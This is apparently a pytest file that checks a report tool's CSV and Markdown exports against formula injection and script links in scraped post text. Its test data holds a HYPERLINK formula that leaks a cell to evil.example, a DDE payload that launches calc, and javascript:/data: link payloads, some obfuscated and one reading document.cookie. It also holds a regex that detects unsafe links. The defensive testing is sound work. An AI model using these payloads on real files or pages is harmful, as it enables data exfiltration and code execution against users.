"""Exports that are safe to open: CSV cells a spreadsheet would run as formulas, Markdown links
that would run script. Post text is written by strangers."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path

from helpers import multivector
from multivector.report.export import safe_cell
from multivector.report.render import render_markdown

REPORT = Path(__file__).parent / "data" / "report_example.json"

FORMULAS = {
    "f1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "f2": "+7 700 000 0000 позвоните",
    "f3": "- пункт списка о переговорах",
    "f4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f5": "\tтабуляция в начале",
    "f6": "\r=1+1 после возврата каретки",
    "plain": "Обычный текст о саммите ШОС в Астане.",
}


def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_the_text(tmp_path):
    table = tmp_path / "posts.jsonl"
    rows = [{"id": key, "channel": "=cmd" if key == "f1" else "Канал", "date": "2024-05-01", "text": text}
            for key, text in FORMULAS.items()]  # fmt: skip
    table.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    db = tmp_path / "t.db"
    assert multivector("--db", str(db), "ingest", "--no-annotate", str(table)).returncode == 0
    out = tmp_path / "posts.csv"
    r = multivector("--db", str(db), "export", "--format", "csv", "--out", str(out))
    assert r.returncode == 0, r.stderr
    cells = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    by_id = {row["message_id"]: row for row in cells}
    # normalize() trims the text: what is stored starts with the visible character.
    for key in ("f1", "f2", "f3", "f4"):
        assert by_id[key]["text"].startswith("'") and by_id[key]["text"][1] in "=+-@", by_id[key]["text"]
    assert by_id["plain"]["text"] == FORMULAS["plain"]
    assert by_id["f1"]["channel"] == "'=cmd"
    for row in cells:  # no cell at all may start a formula
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
    jsonl = multivector("--db", str(db), "export", "--format", "jsonl").stdout
    texts = {json.loads(line)["message_id"]: json.loads(line)["text"] for line in jsonl.splitlines()}
    assert texts["f1"] == FORMULAS["f1"] and texts["f4"] == FORMULAS["f4"]


def test_safe_cell_covers_owasp_characters_only():
    for start in "=+-@\t\r":
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("x=1") == "x=1" and safe_cell("'=already") == "'=already"
    assert safe_cell(5) == 5 and safe_cell(None) is None and safe_cell("") == ""


HOSTILE = [
    "[нажмите](javascript:alert(document.cookie))",
    "![img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](JaVaScRiPt:alert(1)) и [y](vbscript:msgbox(1))",
    "[entity](jav&#x09;ascript:alert(1))",
    "[escaped](java\\script:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
]

# A Markdown link, image or reference definition whose target is a script or data URL, after
# the decoding a viewer does (entities, backslash escapes, spaces and controls in the scheme).
_LINK = re.compile(
    r"(?<!\\)\]\(\s*<?([^)\s]*)|^\s*(?:>\s*)*\[[^\]]*(?<!\\)\]:\s*<?(\S+)|(?<!\\)<([a-z]+:[^>]*)>",
    re.I | re.M,
)


def _unsafe_links(markdown: str) -> list[str]:
    found = []
    for m in _LINK.finditer(markdown):
        target = next(g for g in m.groups() if g is not None)
        seen = re.sub(r"[\x00-\x20\\]", "", target.replace("&#x09;", "")).lower()
        if seen.startswith(("javascript:", "vbscript:", "data:")):
            found.append(target)
    return found


def test_markdown_report_never_emits_script_links_from_post_text():
    report = json.loads(REPORT.read_text(encoding="utf-8"))
    hostile = copy.deepcopy(report)
    for i, text in enumerate(HOSTILE):
        trend = hostile["trends"][i % len(hostile["trends"])]
        trend["evidence"][0]["quote"] = text
        trend["evidence"][0]["channel"] = f"[chan](javascript:c{i})"
        trend["label"] = text
    hostile["events"][0]["title"] = HOSTILE[0]
    hostile["events"][0]["evidence"][0]["quote"] = HOSTILE[5]
    for lang in ("en", "ru"):
        md = render_markdown(hostile, lang)
        assert _unsafe_links(md) == [], _unsafe_links(md)
        assert "javascript:alert(document.cookie)" in md  # the text itself is still there to read
    # The checker finds what it is meant to find: the same quotes, rendered raw, are caught.
    assert len(_unsafe_links("\n".join(HOSTILE))) >= 6


def test_markdown_keeps_ordinary_links_and_brackets_untouched():
    report = json.loads(REPORT.read_text(encoding="utf-8"))
    plain = copy.deepcopy(report)
    quote = "Статья [1] по ссылке [здесь](https://example.org/a) и дата: 2024"
    plain["trends"][0]["evidence"][0]["quote"] = quote
    assert quote in render_markdown(plain, "en")
